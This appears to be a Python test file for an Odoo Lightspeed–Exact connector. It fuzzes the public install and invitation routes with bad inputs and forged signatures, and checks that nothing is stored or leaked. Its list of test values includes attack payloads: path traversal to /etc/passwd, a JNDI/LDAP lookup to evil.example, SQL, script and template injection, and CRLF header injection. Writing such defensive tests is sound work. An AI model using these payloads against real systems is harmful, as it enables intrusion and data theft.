"""The pages for merchants are attacked: nothing is kept, nothing told."""

import hashlib
import itertools
import time
from urllib.parse import quote, urlencode, urlsplit

from odoo.tools import mute_logger

from odoo.addons.lightspeed_exact_connector.const import (
    INSTALL_ROUTE,
    INVITATION_ROUTE,
)

from sandbox.lightspeed.install import signature
from tests.addon.connector_case import KEY, SECRET
from tests.addon.install_case import InstallCase
from tests.addon.invitation_case import InvitationCase
from tests.addon.test_public_endpoints import HEADERS, METHODS, QUIET, PublicCase

# None of these is a number, token or signature of ours.
VALUES = (
    "",
    "0",
    "-1",
    "x",
    "1" * 32,
    "f" * 31,
    "f" * 33,
    "a" * 8000,
    "%00",
    "%0d%0aSet-Cookie:%20a=b",
    "%ff%fe",
    "%C3%A9",
    "%EF%BC%91",
    "1e9",
    "0x7f",
    "../../etc/passwd",
    "{{7*7}}",
    "${{jndi:ldap://evil.example/a}}",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "https://evil.example",
    "[1]",
    "null",
)
TAILS = (
    "",
    "/",
    "/x",
    "x",
    ";x",
    "%00",
    "%20",
    "/..",
    "/../../hooks/ping/" + "0" * 32,
    "%2f..",
    "?debug=assets",
    "?db=postgres",
    "#x",
)


class TestInstallAttacked(PublicCase, InstallCase):
    def path(self, **values):
        """Return path and query of an install, with these raw values in it."""
        parts = urlsplit(self.install()["url"])
        pairs = dict(pair.split("=", 1) for pair in parts.query.split("&"))
        pairs.update(values)
        query = "&".join(f"{name}={value}" for name, value in pairs.items())
        return f"{parts.path}?{query}"

    def test_nothing_that_is_not_signed_is_kept(self):
        names = ("language", "shop_id", "timestamp", "token", "signature", "cluster_id")
        before = self.tried
        with self.open_to_all(), mute_logger(*QUIET):
            for name, value in itertools.product(names, VALUES):
                if (name, value) == ("cluster_id", ""):
                    # The older docs have none; it is not signed.
                    continue
                with self.subTest(name=name, value=value[:40]):
                    path = self.path(**{name: quote(value, safe="%/")})
                    self.assert_tells_nothing(self.send("GET", path))
            for name, headers in itertools.product(names[:5], HEADERS):
                path = self.path(**{name: "1" * 32})
                with self.subTest(name=name, headers=headers):
                    self.assert_tells_nothing(self.send("GET", path, headers.items()))
            right = self.path()
            for name in names[:5]:
                with self.subTest(doubled=name):
                    path = f"{right}&{name}=x"
                    self.assert_tells_nothing(self.send("GET", path))
            for method in METHODS:
                if method == "GET":
                    continue
                with self.subTest(method=method):
                    self.assert_tells_nothing(self.send(method, right))
            plain, _mark, query = right.partition("?")
            base = plain.rpartition("/")[0]
            for number in (*VALUES, *(plain + tail for tail in TAILS)):
                where = number if number.startswith("/") else f"{base}/{number}"
                with self.subTest(where=where[-40:]):
                    if where == plain:
                        continue
                    where = quote(where, safe="%/;?=#")
                    joint = "&" if "?" in where else "?"
                    wrong = query.replace("signature=", "signature=0")
                    answer = self.send("GET", f"{where}{joint}{wrong}")
                    self.assert_tells_nothing(answer, {301, 303, 308, 400, 404})
        self.env.invalidate_all()
        self.assertFalse(self.claims())
        self.assertFalse(self.calls(service="lightspeed"))
        count = self.tried - before
        self.assertGreater(count, 250)
        print(f"\ninstalls: {count} bad inputs")  # noqa: T201
        # And it works for who is meant.
        with self.open_to_all():
            self.assertEqual(self.send("GET", self.path())[0], 200)
        self.assertEqual(len(self.claims()), 1)

    def test_no_scheme_of_ones_own_signs_an_install(self):
        app = self.make_app("Victim")
        params = {
            "language": "nl",
            "shop_id": str(self.shop_number),
            "timestamp": str(int(time.time())),
            "token": "0" * 32,
        }
        text = "".join(f"{name}={params[name]}" for name in sorted(params))
        secret = app._secret("app_secret")
        forged = [
            signature(params, ""),
            signature(params, app.app_key),
            signature({**params, "token": ""}, secret),
            signature(dict(list(params.items())[:3]), secret),
            hashlib.md5((secret + text).encode()).hexdigest(),
            hashlib.md5((urlencode(params) + secret).encode()).hexdigest(),
            hashlib.sha256((text + secret).encode()).hexdigest(),
            hashlib.sha256((text + secret).encode()).hexdigest()[:32],
        ]
        with self.open_to_all(), mute_logger(*QUIET):
            for made in forged:
                query = urlencode({**params, "signature": made})
                answer = self.send("GET", f"{INSTALL_ROUTE}/{app.id}?{query}")
                self.assertEqual(answer[0], 400)
                self.assert_tells_nothing(answer)
        self.assertFalse(self.claims())


class TestInvitationAttacked(PublicCase, InvitationCase):
    def test_nothing_opens_without_a_link(self):
        self.link()
        before = self.tried
        with self.open_to_all(), mute_logger(*QUIET):
            for value, headers in itertools.product(VALUES, HEADERS):
                path = f"{INVITATION_ROUTE}/{quote(value, safe='%/')}"
                with self.subTest(value=value[:40], headers=headers):
                    answer = self.send("GET", path, headers.items())
                    self.assert_tells_nothing(answer, {301, 308, 400, 404, 414, 431})
            form = {"Content-Type": "application/x-www-form-urlencoded"}
            for name, value in itertools.product(("key", "exact"), VALUES):
                body = f"csrf_token={value}&api_key={KEY}&api_secret={SECRET}"
                path = f"{INVITATION_ROUTE}/{name}"
                with self.subTest(form=name, csrf=value[:40]):
                    answer = self.send("POST", path, form.items(), body.encode())
                    self.assert_tells_nothing(answer)
            for name, method in itertools.product(("", "/key", "/exact"), METHODS):
                with self.subTest(method=method, name=name):
                    answer = self.send(method, f"{INVITATION_ROUTE}{name}")
                    self.assert_tells_nothing(answer)
        self.env.invalidate_all()
        self.assertFalse(self.claims())
        self.assertFalse(self.invitation.opened_at)
        self.assertFalse(self.invitation.connection_id)
        self.assertFalse(self.calls(service="lightspeed"))
        count = self.tried - before
        self.assertGreater(count, 400)
        print(f"\ninvitations: {count} bad inputs")  # noqa: T201

    def test_whoever_has_the_link_reads_nothing_of_ours(self):
        self.make_shop()
        text = self.enter().text
        for told in ("exact.connection", KEY, SECRET, self.app.app_key, self.cr.dbname):
            self.assertNotIn(told, text)
        for path in (
            "/odoo",
            "/web/session/get_session_info",
            "/json/2/res.users/read",
        ):
            answer = self.get(path)
            self.assertNotIn("Voorbeeldwinkel", answer.text)
            self.assertIn(answer.status_code, (303, 400, 401, 403, 404, 405, 415))
